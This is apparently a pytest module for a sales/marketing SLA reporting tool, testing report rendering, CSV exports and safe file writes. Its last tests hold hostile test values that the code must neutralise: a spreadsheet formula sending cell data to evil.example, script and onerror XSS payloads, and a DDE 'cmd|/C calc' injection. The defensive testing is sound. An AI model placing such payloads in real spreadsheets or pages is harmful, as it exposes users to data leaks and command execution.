"""Reports from a SQLite warehouse: HTML with embedded charts, Markdown, one CSV per table, footnoted sources."""

from __future__ import annotations

import base64
import contextlib
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest

from abm_sla.errors import AbmSlaError
from abm_sla.services import reporting
from abm_sla.services.config_files import load_policy
from abm_sla.warehouse import Warehouse, schema
from abm_sla.warehouse.store import records
from tests.unit.test_scorecard import sample_data

PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
CRM_KINDS = ("accounts", "contacts", "activities", "opportunities", "users", "status_changes")


@pytest.fixture(scope="module")
def stored(tmp_path_factory) -> Warehouse:
    """The scorecard's hand-built dataset stored in a SQLite warehouse, once for the module: the tests that only
    read share it (and the reports built from it), the others get a copy (:func:`warehouse`)."""
    store = Warehouse(f"sqlite:///{tmp_path_factory.mktemp('reports') / 'warehouse.db'}")
    data = sample_data()
    with store.engine.begin() as connection:
        for kind in CRM_KINDS:
            store.store_frames(connection, "files", kind, getattr(data, kind).dropna(axis=1, how="all"))
        for name in ("mqas", "sla_clocks", "escalations"):
            table = getattr(schema, name)
            rows = getattr(data, name)
            if name == "mqas":
                rows = rows.assign(firmographic=30, engagement=20, intent=15, total=65, reasons=[[]] * len(rows),
                                   model_version="test")
            columns = [column.name for column in table.columns if column.name in rows.columns]
            store.upsert(connection, table, records(rows[columns]))
    store.engine.dispose()
    return store


@pytest.fixture
def warehouse(stored: Warehouse, tmp_path: Path) -> Warehouse:
    """A copy of the stored dataset's warehouse of the test's own (the test may change it)."""
    copy = tmp_path / "warehouse.db"
    shutil.copyfile(stored.engine.url.database, copy)
    return Warehouse(f"sqlite:///{copy}")


@pytest.fixture(scope="module")
def weekly(stored: Warehouse) -> reporting.Report:
    """The weekly report of 2026-W10 on the stored dataset (the tests only read it)."""
    return reporting.build_weekly(stored, "2026-W10", load_policy())


@pytest.fixture(scope="module")
def quarterly_html(stored: Warehouse) -> str:
    """The quarterly report of 2026-Q1 on the stored dataset, as HTML."""
    return reporting.build_quarterly(stored, "2026-Q1", load_policy()).html()


@pytest.fixture(scope="module")
def written(stored: Warehouse, tmp_path_factory) -> dict[str, dict]:
    """The weekly report of 2026-W10, then the quarterly of 2026-Q1 written into the same folder: each one's
    paths, the folder, and the weekly's table and chart files as they were before the quarterly was written."""
    out = tmp_path_factory.mktemp("written")
    weekly_paths = reporting.generate_report(stored, "weekly", "2026-W10", out)
    weekly_files = {key: path.read_bytes() for key, path in weekly_paths.items()
                    if key.startswith(("table:", "chart:"))}
    quarterly_paths = reporting.generate_report(stored, "quarterly", "2026-Q1", out)
    return {"weekly": weekly_paths, "weekly_files": weekly_files, "quarterly": quarterly_paths, "out": out}


def images(html: str) -> list[bytes]:
    return [base64.b64decode(match) for match in re.findall(r'<img [^>]*src="data:image/png;base64,([^"]+)"', html)]


def test_weekly_report_files(written):
    paths = written["weekly"]
    html = paths["html"].read_text(encoding="utf-8")
    pngs = images(html)
    assert len(pngs) == 3 and all(png.startswith(PNG_MAGIC) and len(png) > 5_000 for png in pngs)
    assert paths["html"].name == "weekly-2026-W10.html"
    four = pd.read_csv(paths["table:four_numbers"])
    assert four.set_index("tier").loc["2", "first_touch_met_of_decided"] == "0/1"
    misses = pd.read_csv(paths["table:misses"])
    assert misses["account_name"].tolist() == ["Cyan", "Beta"]
    assert misses["due_at"].iloc[0] == "2026-03-05T10:00:00Z"
    assert pd.read_csv(paths["table:tier_moves"])["account_id"].tolist() == ["A7", "A6", "A5", "A8"]
    markdown = paths["markdown"].read_text(encoding="utf-8")
    assert "[^1]: `four_numbers` — sla_clocks where due_at in [2026-03-02T00:00:00Z, 2026-03-09T00:00:00Z)" in markdown
    assert f"![{reporting.CHART_TITLES['compliance_trend']}](charts/weekly-2026-W10/compliance_trend.png)" in markdown
    assert paths["chart:compliance_trend"].read_bytes().startswith(PNG_MAGIC)


def test_two_reports_in_one_folder_keep_their_own_tables_charts_and_diffs(written):
    weekly, weekly_files, quarterly, tmp_path = (written[key] for key in ("weekly", "weekly_files", "quarterly", "out"))
    assert set(weekly.values()).isdisjoint(quarterly.values())
    assert all(weekly[key].read_bytes() == content for key, content in weekly_files.items())
    for paths in (weekly, quarterly):  # every chart the Markdown links to is the one it was written with
        markdown = paths["markdown"].read_text(encoding="utf-8")
        for link in re.findall(r"!\[[^]]*\]\(([^)]+)\)", markdown):
            assert (tmp_path / link).is_file()
        assert {key for key in paths if key.startswith("chart:")} == {
            f"chart:{Path(link).stem}" for link in re.findall(r"!\[[^]]*\]\(([^)]+)\)", markdown)}
    assert quarterly["diff:config/sla.yaml"].name == "quarterly-2026-Q1-sla.yaml.diff"


def test_quarterly_report_has_every_section(written):
    paths = written["quarterly"]
    html = paths["html"].read_text(encoding="utf-8")
    assert len(images(html)) == 4
    for title in ("Marketing", "Sales", "Joint", "Commitments", "Proposals", "Does the score predict pipeline?"):
        assert f"<h2>{title}</h2>" in html
    report_tables = {key.split(":", 1)[1] for key in paths if key.startswith("table:")}
    assert {"marketing_by_tier", "chronic_misses", "threshold_backtest", "pipeline", "win_rates",
            "score_predicts_pipeline", "score_calibration"} <= report_tables
    sources = re.findall(r'<li id="src-(\d+)"', html)
    assert len(sources) == len(report_tables) + 4  # every table and chart has a footnote
    chronic = pd.read_csv(paths["table:chronic_misses"])
    assert chronic["action"].fillna("").eq("renegotiate").any()
    assert "diff:config/sla.yaml" in paths and paths["diff:config/sla.yaml"].read_text().startswith("--- a/config/")


def test_report_object_serves_artifacts(weekly):
    report = weekly
    assert set(report.tables) >= {"four_numbers", "misses", "open_escalations", "tier_moves"}
    assert report.markdown(chart_dir=None).count("![") == 0
    assert "<script" not in report.html()


def test_bad_kind_and_period(stored, tmp_path):
    with pytest.raises(AbmSlaError, match="kind"):
        reporting.generate_report(stored, "daily", "2026-W10", tmp_path)
    with pytest.raises(AbmSlaError, match="period"):
        reporting.generate_report(stored, "weekly", "W10", tmp_path)


def test_empty_warehouse_still_renders(sqlite_url, tmp_path):
    paths = reporting.generate_report(sqlite_url, "quarterly", "2026-Q1", tmp_path)
    assert len(images(paths["html"].read_text(encoding="utf-8"))) == 4


# -- written for people ----------------------------------------------------------------------------------

def visible_text(html: str) -> str:
    """The page's text without tags, style and image data."""
    html = re.sub(r"<style>.*?</style>", "", html, flags=re.S)
    return re.sub(r"<[^>]+>", " ", html)


def test_first_screen_is_the_two_sided_scorecard_then_what_needs_a_decision(quarterly_html):
    html = quarterly_html
    scorecard, decisions = html.index('id="scorecard"'), html.index('id="decisions"')
    assert scorecard < decisions < html.index('id="section-marketing"') < html.index('id="section-proposals"')
    first_screen = visible_text(html[scorecard:decisions])
    assert "Marketing" in first_screen and "Sales" in first_screen
    # actual against target, verdict, change against the previous quarter, sample size
    assert re.search(r"66\.7%\s+target ≥ 95%", first_screen)  # Tier 1 first touch, 2 of 3 clocks met
    assert "n = 3 clocks decided" in first_screen
    assert "▼ -50 pp vs 2025-Q4" in first_screen  # Tier 2 first touch: 0% now, 50% in 2025-Q4
    # volume ×3, first touch ×2, rejection; and of the designs' benchmarks (docs/policy/marketing.md):
    # multi-stakeholder 22.2% < 25, Tier 2 MQA → opportunity 0% not > 10, 1.17 engaged contacts per account < 2
    assert html[scorecard:decisions].count('class="c missed"') == 9
    assert html[scorecard:decisions].count('class="c met"') == 3 + 3  # engagement, Tier 1 acceptance, SQL → opp
    needs = visible_text(html[decisions:html.index('id="section-marketing"')])
    for title in ("Chronic misses to renegotiate", "Proposals to agree", "Tier moves awaiting sales",
                  "Escalations open longest"):
        assert title in needs
    assert "Proposed change to config/sla.yaml" in needs


def test_scorecard_values_are_the_commitments(stored):
    """The headline only presents: its values are those of scorecard.commitments for the same period."""
    from abm_sla.domain import scorecard as sc

    policy = load_policy()
    data = reporting.load_data(stored)
    start, end = sc.parse_period("2026-Q1")
    headline = sc.headline(data, start, end, end, policy)
    pd.testing.assert_series_equal(headline["value"], sc.commitments(data, start, end, end, policy)["value"])
    assert headline.set_index(["commitment", "tier"]).loc[("first_touch_met_pct", 2), "previous_value"] == 50.0
    assert sc.previous_period(*sc.parse_period("2026-W10")) == sc.parse_period("2026-W09")
    assert sc.previous_period(*sc.parse_period("2026-03")) == sc.parse_period("2026-02")
    assert sc.previous_period(*sc.parse_period("2026-Q1")) == sc.parse_period("2025-Q4")


def test_tables_have_human_labels_names_and_formatted_numbers(quarterly_html):
    html = quarterly_html
    headers = re.findall(r"<th[^>]*>([^<]*)</th>", html)
    assert headers and not [h for h in headers if re.search(r"[a-z]_[a-z]", h)], headers
    text = visible_text(html)
    assert not re.search(r"\b(True|False|nan|NaN|None)\b", text)
    assert 'Ann <small class="id">U1</small>' in html  # names first, ids secondary (per-owner tables)
    assert re.search(r"<td[^>]*>33\.3%</td>", html)  # percentages, not bare floats
    assert "$" in text  # pipeline amounts as currency


def test_long_tables_fold_the_rest_one_click_away(stored):
    report = reporting.build_weekly(stored, "2026-W10", load_policy())
    table = report.tables["tier_moves"]
    table.frame = pd.concat([table.frame] * 5, ignore_index=True)  # 20 rows
    html = report.html()
    part = html[html.index('id="table-tier_moves"'):]
    part = part[:part.index("</section>")]
    assert part.count("<tr>") == 1 + reporting.SHOWN_ROWS + 1 + (20 - reporting.SHOWN_ROWS)
    assert f"Show the other {20 - reporting.SHOWN_ROWS} rows" in part
    assert part.index("<details>") > part.index("</table>")  # the first rows stay visible


def test_headline_lines_say_each_side_and_where_the_report_is(weekly):
    report = weekly
    lines = reporting.headline_lines(report, "/srv/reports/weekly-2026-W10.html")
    assert lines[0].startswith("SLA weekly dashboard 2026-W10: 2026-W10 (2026-03-02 to 2026-03-08)")
    assert lines[1].startswith("Marketing: ") and " of " in lines[1]
    assert lines[2].startswith("Sales: ") and "First touch within the window, Tier 2 0% (target ≥ 90%)" in lines[2]
    assert lines[3].startswith("Needs a decision: ") and "4 tier moves" in lines[3]
    assert lines[-1] == "Report: /srv/reports/weekly-2026-W10.html"
    assert 'class="c none"' in report.html()  # no Tier 1 opportunity closed that week: no verdict, grey


def test_no_numpy_warning_for_a_period_without_wins(stored):
    """Medians over nothing (no deal won that week) are empty, without numpy's "Mean of empty slice"."""
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("error", RuntimeWarning)
        report = reporting.build_weekly(stored, "2026-W10", load_policy())
    assert report.scorecard is not None


def test_monthly_review_sections_and_the_stored_tier_move_ledger(warehouse, tmp_path):
    """The monthly report reads the ledger the runs stored: a recommendation decided in March shows its age."""
    from abm_sla.domain import tier_moves as tm

    ledger = tm.conform(pd.DataFrame({
        "account_id": ["A6", "A5"], "recommended_at": [pd.Timestamp("2026-03-01", tz="UTC")] * 2,
        "rule": ["promote_2_to_1", "promote_3_to_2"], "from_tier": ["2", "3"], "proposed_tier": ["1", "2"],
        "reason": ["r", "r"], "decision": ["accepted", "pending"],
        "decided_at": [pd.Timestamp("2026-03-05", tz="UTC"), pd.NaT], "decision_note": [None, None],
        "evaluated_at": [pd.Timestamp("2026-03-05", tz="UTC")] * 2}))
    with warehouse.engine.begin() as connection:
        warehouse.upsert(connection, schema.tier_move_recommendations, records(ledger))
    paths = reporting.generate_report(warehouse, "monthly", "2026-03", tmp_path)
    markdown = paths["markdown"].read_text(encoding="utf-8")
    for title in ("## Month over month", "## Volume against target", "## Pipeline by source",
                  "## Marketing tempo and coverage", "## Tier moves"):
        assert title in markdown
    tempo = pd.read_csv(paths["table:touch_tempo"]).set_index("tier")  # abm_sla.domain.marketing against the policy
    assert {"judged", "on_tempo", "below", "above"} <= set(tempo.columns) and "table:channel_coverage" in paths
    moves = pd.read_csv(paths["table:tier_moves"]).set_index("account_id")
    assert moves.loc["A6", ["decision", "age_days"]].tolist() == ["accepted", 4.0]
    assert moves.loc["A5", "decision"] == "pending"
    assert "| MQAs | 5 | 0 | +5 |" in markdown  # February measured something (an opportunity): compared
    assert "| Pipeline, joint pipeline | $1,000 | $2,000 | -$1,000 |" in markdown
    with pytest.raises(AbmSlaError, match="monthly review takes a month"):
        reporting.generate_report(warehouse, "monthly", "2026-Q1", tmp_path)


def test_cli_report_monthly(warehouse, tmp_path):
    from typer.testing import CliRunner

    from abm_sla.cli import app

    url = str(warehouse.engine.url)
    done = CliRunner().invoke(app, ["report", "monthly", "--period", "2026-03", "--out", str(tmp_path), "--db", url])
    assert done.exit_code == 0, done.output
    assert "html: " in done.output and (tmp_path / "monthly-2026-03.html").is_file()


HOSTILE = {"Cyan": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
           "Beta": '<script>alert(1)</script><img src=x onerror="alert(2)">'}


def rename_accounts(store: Warehouse, names: dict[str, str]) -> None:
    accounts = schema.accounts
    with store.engine.begin() as connection:
        for old, new in names.items():
            connection.execute(accounts.update().where(accounts.c.name == old).values(name=new))


def test_crm_text_cannot_run_as_a_formula_or_as_html(warehouse, tmp_path):
    """An account named ``=HYPERLINK(...)`` is text in the tables' CSVs (OWASP: a leading ``'``), numbers stay
    numbers; a name carrying ``<script>``/``<img onerror>`` is escaped in the Markdown and the HTML report."""
    rename_accounts(warehouse, HOSTILE)
    paths = reporting.generate_report(warehouse, "weekly", "2026-W10", tmp_path)
    misses = pd.read_csv(paths["table:misses"], dtype=str, keep_default_na=False)
    assert misses["account_name"].tolist() == ["'" + HOSTILE["Cyan"], HOSTILE["Beta"]]
    assert not misses.map(lambda cell: cell.startswith(("=", "@", "+"))).any().any()
    assert pd.read_csv(paths["table:four_numbers"]).select_dtypes("number").shape[1] > 0
    for kind in ("markdown", "html"):
        text = paths[kind].read_text(encoding="utf-8")
        assert "<script>" not in text and "<img src=x" not in text, kind
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text, kind


INJECTED_OWNER = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_exports_neutralise_formulas_and_keep_numbers(warehouse, tmp_path):
    from abm_sla.services import exports

    mqas = schema.mqas
    with warehouse.engine.begin() as connection:
        connection.execute(mqas.update().where(mqas.c.account_id == "A3").values(owner_id=INJECTED_OWNER))
    exports.export(warehouse, "mqas", tmp_path / "mqas.csv")
    written = pd.read_csv(tmp_path / "mqas.csv", dtype=str, keep_default_na=False).set_index("account_id")
    assert written.loc["A3", "owner_id"] == "'" + INJECTED_OWNER
    assert written.loc["A3", "total"] == "65"
    safe = exports.spreadsheet_safe(pd.DataFrame({"text": ["-12.5", "+3", "-x", "\tcmd", "\r=1", "ok", None],
                                                  "number": [-1.5, 2, 3, 4, 5, 6, 7]}))
    assert safe["text"].tolist() == ["-12.5", "+3", "'-x", "'\tcmd", "'\r=1", "ok", None]
    assert safe["number"].tolist() == [-1.5, 2, 3, 4, 5, 6, 7]


@contextlib.contextmanager
def disk_full_after(size: int):
    """Writes past ``size`` bytes of one file fail with EFBIG (as a full disk would fail them with ENOSPC)."""
    import resource
    import signal

    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    handler = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (size, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
        signal.signal(signal.SIGXFSZ, handler)


def test_a_report_write_that_fails_leaves_the_last_good_files(warehouse, tmp_path):
    out = tmp_path / "reports"
    paths = reporting.generate_report(warehouse, "weekly", "2026-W10", out)
    before = {path: path.read_bytes() for path in out.rglob("*") if path.is_file()}
    rename_accounts(warehouse, {"Cyan": "Cyan " + "x" * 20_000})  # the new report is longer than the limit
    report = reporting.build_report(warehouse, "weekly", "2026-W10")
    with disk_full_after(paths["html"].stat().st_size // 2), pytest.raises(OSError):
        reporting.write_report(report, out)
    after = {path: path.read_bytes() for path in out.rglob("*") if path.is_file()}
    assert after == before  # the last good report, byte for byte, and no temporary file left
